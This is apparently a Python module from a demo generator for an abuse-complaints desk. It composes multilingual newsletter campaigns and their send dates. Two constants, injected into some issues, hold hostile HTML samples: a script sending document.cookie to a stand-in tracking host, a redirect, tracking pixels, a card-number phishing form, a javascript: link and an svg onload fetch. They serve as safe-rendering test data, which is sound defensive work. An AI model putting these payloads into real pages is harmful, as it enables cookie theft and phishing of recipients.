"""The newsletters as composed, from texts.toml, and the days on which they went out."""

from __future__ import annotations

import re
import tomllib
from datetime import datetime, timedelta
from functools import cache
from html import escape
from pathlib import Path
from typing import TYPE_CHECKING, Any

from complaints.demo.chance import stream
from complaints.demo.records import Account, Campaign, MailingList

if TYPE_CHECKING:
    import random

HISTORY_DAYS = 60
_NEWEST_DAYS = 7.0
_SEND_HOURS = range(6, 17)
_GREETING = {"de": "Guten Tag", "en": "Hello", "fr": "Bonjour", "es": "Hola"}
_BUTTON = {"de": "Mehr erfahren", "en": "Read more", "fr": "En savoir plus", "es": "Leer más"}
_STOP = {"de": "Abmelden", "en": "Unsubscribe", "fr": "Se désabonner", "es": "Darse de baja"}
_BROWSER = {"de": "Im Browser ansehen", "en": "View in browser", "fr": "Voir en ligne", "es": "Ver en el navegador"}

# What such senders really put into their HTML: a desk must show it without a request and without running anything.
_HOSTILE_HEAD = (
    '<script>location.href="https://track.prize-portal.example/o?"+document.cookie</script>'
    '<meta http-equiv="refresh" content="30;url=https://prize-portal.example/">'
    "<style>@import url(https://track.prize-portal.example/c.css);"
    "body{background:url(https://track.prize-portal.example/bg.png)}</style>"
)
_HOSTILE_TAIL = (
    '<img src="https://track.prize-portal.example/p.gif?u={{email}}" width="1" height="1" '
    "onerror=\"this.src='https://track.prize-portal.example/e'\">"
    '<form action="https://prize-portal.example/claim"><input name="card" placeholder="Card number"></form>'
    '<a href="javascript:alert(document.domain)">Claim without delay</a>'
    '<iframe src="https://prize-portal.example/wheel"></iframe>'
    "<svg onload=\"fetch('https://track.prize-portal.example/s')\"></svg>"
)


@cache
def _texts() -> dict[str, Any]:
    return tomllib.loads((Path(__file__).parent / "texts.toml").read_text("utf-8"))


def first_name(recipient: str) -> str:
    """Give the name that a merge field makes of an address."""
    return re.split(r"[._0-9@]", recipient)[0].capitalize()


def merged(text: str, recipient: str, **values: str) -> str:
    """Fill the merge fields; one without a value stays empty."""
    known = {"first_name": first_name(recipient), "email": recipient, **values}
    return re.sub(r"\{\{(\w+)\}\}", lambda field: known.get(field[1], ""), text)


def _text_body(account: Account, paragraphs: list[str]) -> str:
    parts = [
        f"{_GREETING[account.language]} {{{{first_name}}}},",
        *paragraphs,
        f"{_BUTTON[account.language]}: https://{account.domain}/",
        f"-- \n{account.name}\n{_STOP[account.language]}: {{{{unsubscribe_url}}}}",
    ]
    return "\n\n".join(parts) + "\n"


def _html_body(account: Account, subject: str, paragraphs: list[str], *, hostile: bool) -> str:
    prose = "\n".join(f"<p>{escape(paragraph)}</p>" for paragraph in paragraphs)
    language = account.language
    return (
        f'<!DOCTYPE html>\n<html lang="{language}"><head><meta charset="utf-8"><title>{escape(subject)}</title>'
        f"{_HOSTILE_HEAD if hostile else ''}</head>\n"
        '<body style="margin:0;background:#f4f2ee;font-family:Georgia,serif">\n'
        '<table role="presentation" width="100%"><tr><td align="center"><table role="presentation" width="600">\n'
        f'<tr><td><a href="{{{{web_version_url}}}}">{_BROWSER[language]}</a></td></tr>\n'
        f"<tr><td><h1>{escape(account.name)}</h1><h2>{escape(subject)}</h2>\n"
        f"<p>{_GREETING[language]} {{{{first_name}}}},</p>\n{prose}\n"
        f'<p><a href="https://{account.domain}/" style="background:#345;color:#fff;padding:8px">'
        f"{_BUTTON[language]}</a></p></td></tr>\n"
        f'<tr><td><small>{escape(account.name)} &middot; <a href="{{{{unsubscribe_url}}}}">{_STOP[language]}</a>'
        "</small></td></tr>\n"
        f"</table></td></tr></table>{_HOSTILE_TAIL if hostile else ''}\n"
        '<img src="https://click.example.com/o/{{open_token}}.gif" width="1" height="1" alt="">\n</body></html>\n'
    )


def _compose(account: Account, spec: MailingList, number: int, sent_at: datetime) -> Campaign:
    texts = _texts()[account.texts]
    issue = texts["issues"][(number + 1) % len(texts["issues"])]
    extras = texts["extras"]
    paragraphs = [*issue["paragraphs"], extras[number % len(extras)], extras[(number // 2 + 1) % len(extras)]]
    hostile = bool(issue.get("hostile"))
    return Campaign(
        campaign_id=f"c{spec.list_id[1:]}n{number:02d}",
        account_id=account.account_id,
        list_id=spec.list_id,
        subject=issue["subject"],
        text=_text_body(account, list(dict.fromkeys(paragraphs))),
        html=_html_body(account, issue["subject"], list(dict.fromkeys(paragraphs)), hostile=hostile),
        sent_at=sent_at,
    )


def _ages_days(chance: random.Random, account: Account, spec: MailingList) -> list[float]:
    """Give how long ago each campaign went out, newest first, the same weekday where the rhythm is weekly."""
    if not spec.every_days:
        return []
    newest = account.silent_days / 3 if account.silent_days else chance.uniform(0.4, min(spec.every_days, _NEWEST_DAYS))
    oldest = min(HISTORY_DAYS - 1, spec.created_days - 1)
    ages = [newest + step * spec.every_days for step in range(HISTORY_DAYS)]
    return [age for age in ages if account.stopped_days <= age <= oldest]


def _at_hour(day: datetime, hour: int, now: datetime) -> datetime:
    """Give a time on that day, or the day before when that would leave nobody time to complain."""
    moment = day.replace(hour=hour, minute=5, second=0)
    return moment if moment < now - timedelta(hours=8) else moment - timedelta(days=1)


def plan_campaigns(accounts: dict[str, Account], seed: int, now: datetime) -> dict[str, Campaign]:
    """Compose every campaign of the last `HISTORY_DAYS`, oldest first."""
    composed = []
    for account in accounts.values():
        for spec in account.lists:
            chance = stream(seed, f"campaigns:{spec.list_id}")
            ages = _ages_days(chance, account, spec)
            hour = chance.choice(_SEND_HOURS)
            days = [_at_hour(now - timedelta(days=age), hour, now) for age in ages]
            composed += [_compose(account, spec, number, sent_at) for number, sent_at in enumerate(days)]
    composed.sort(key=lambda campaign: campaign.sent_at)
    return {campaign.campaign_id: campaign for campaign in composed}
